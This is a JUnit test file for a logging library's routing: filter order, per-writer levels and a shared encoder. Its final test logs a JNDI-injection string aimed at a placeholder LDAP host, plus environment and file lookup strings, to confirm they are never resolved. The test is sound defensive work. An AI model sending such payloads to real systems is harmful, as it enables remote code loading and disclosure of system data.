package io.github.inkseal.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.inkseal.CloseReport;
import io.github.inkseal.LoggerContext;
import io.github.inkseal.WriterMetrics;
import io.github.inkseal.config.LevelFilterSettings;
import io.github.inkseal.support.Contexts;
import io.github.inkseal.support.MemoryWriter;
import io.github.inkseal.support.TestEncoder;
import io.github.inkseal.support.TestFilter;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.slf4j.Logger;
import org.slf4j.event.Level;

/** Filters in their order, writers' levels, one encoding for writers that share an encoder. */
class RoutingTest {

    @Test
    void filters_are_asked_in_their_order_and_the_first_that_denies_ends_it() {
        MemoryWriter writer = MemoryWriter.fresh("order");
        AtomicInteger asked = new AtomicInteger();
        LoggerContext context = LoggerContext.start(Contexts.config()
                .filter("level", new LevelFilterSettings(Level.WARN, "com.acme"))
                .filter("test", TestFilter.settings("order", event -> {
                    asked.incrementAndGet();
                    return !event.message().contains("secret");
                }))
                .writer(MemoryWriter.config("order"))
                .build());
        context.getLogger("com.acme.Pay").info("denied by the first");
        context.getLogger("com.acme.Pay").warn("passes");
        context.getLogger("com.acmes").info("passes too");
        context.getLogger("org").info("secret {}", "thing");
        CloseReport report = Contexts.close(context);

        assertThat(writer.records()).containsExactly("passes", "passes too");
        assertThat(asked).hasValue(3);
        assertThat(report.metrics().filtered()).containsEntry("level", 1L).containsEntry("test", 1L);
        assertThat(report.metrics().writers().get("order"))
                .isEqualTo(new WriterMetrics(2, 2, 0, 0, 0, 0, 18, 0, 1, 0, null));
    }

    @Test
    void a_writers_level_concerns_that_writer_only() {
        MemoryWriter all = MemoryWriter.fresh("all");
        MemoryWriter some = MemoryWriter.fresh("some");
        LoggerContext context = LoggerContext.start(Contexts.config()
                .writer(MemoryWriter.config("some").withLevel(Level.WARN))
                .writer(MemoryWriter.config("all"))
                .build());
        Logger log = context.getLogger("routing");
        log.info("info");
        log.error("error");
        CloseReport report = Contexts.close(context);
        assertThat(all.records()).containsExactly("info", "error");
        assertThat(some.records()).containsExactly("error");
        assertThat(report.metrics().writers().get("some").filtered()).isEqualTo(1);
        assertThat(report.metrics().writers().get("all").filtered()).isZero();
    }

    @Test
    void writers_with_one_encoder_share_its_work() {
        MemoryWriter first = MemoryWriter.fresh("first");
        MemoryWriter second = MemoryWriter.fresh("second");
        AtomicInteger encoded = new AtomicInteger();
        TestEncoder.Settings shared = TestEncoder.settings("shared", (event, out) -> {
            encoded.incrementAndGet();
            out.text(event.message()).raw((byte) '\n');
        });
        LoggerContext context = LoggerContext.start(Contexts.config()
                .writer(MemoryWriter.config("first").withEncoder("test", shared))
                .writer(MemoryWriter.config("second").withEncoder("test", shared))
                .build());
        for (int i = 0; i < 100; i++) {
            context.getLogger("shared").info("{}", i);
        }
        Contexts.close(context);
        assertThat(encoded).hasValue(100);
        assertThat(first.records()).hasSize(100).isEqualTo(second.records());
    }

    @Test
    void large_batches_of_writers_that_share_an_encoder_stay_whole() {
        MemoryWriter first = MemoryWriter.fresh("whole-1");
        MemoryWriter second = MemoryWriter.fresh("whole-2");
        MemoryWriter warnings = MemoryWriter.fresh("whole-3");
        LoggerContext context = LoggerContext.start(Contexts.config()
                .queue(Contexts.lossless(65_536))
                .writer(MemoryWriter.config("whole-1"))
                .writer(MemoryWriter.config("whole-3").withLevel(Level.WARN))
                .writer(MemoryWriter.config("whole-2"))
                .build());
        Logger log = context.getLogger("whole");
        String text = "x".repeat(700);
        for (int i = 0; i < 5000; i++) {
            log.info("{} {}", i, text);
            log.warn("{} {}", i, text);
        }
        Contexts.close(context);
        assertThat(first.records()).hasSize(10_000).isEqualTo(second.records());
        assertThat(warnings.records()).hasSize(5000).allMatch(record -> record.endsWith(text));
        assertThat(first.batches()).isGreaterThan(10);
    }

    @Test
    void text_of_an_event_is_never_resolved() {
        MemoryWriter writer = MemoryWriter.fresh("lookup");
        LoggerContext context = LoggerContext.start(
                Contexts.config().writer(MemoryWriter.config("lookup")).build());
        Logger log = context.getLogger("lookup");
        log.info("${jndi:ldap://192.0.2.1/a}");
        log.info("{}", "${env:HOME} ${sys:user.name} ${file:/etc/hostname}");
        Contexts.close(context);
        assertThat(writer.records())
                .containsExactly("${jndi:ldap://192.0.2.1/a}", "${env:HOME} ${sys:user.name} ${file:/etc/hostname}");
    }
}
